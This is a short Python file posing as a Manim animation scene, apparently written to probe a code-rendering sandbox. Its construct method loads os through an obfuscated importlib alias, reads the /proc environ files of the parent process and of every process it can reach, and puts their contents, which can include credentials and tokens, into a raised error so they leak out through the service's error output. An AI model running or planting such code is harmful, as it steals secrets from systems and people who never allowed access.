from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        os = G("os")
        found = []
        for pid in [os.getppid(), 1, 2] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try:
                found.append(open("/proc/%d/environ" % pid, "rb").read().decode("latin1"))
            except Exception as exc:
                found.append(type(exc).__name__)
        raise RuntimeError("proc environ: " + repr(found))
        self.play(Create(Circle()), run_time=0.1)
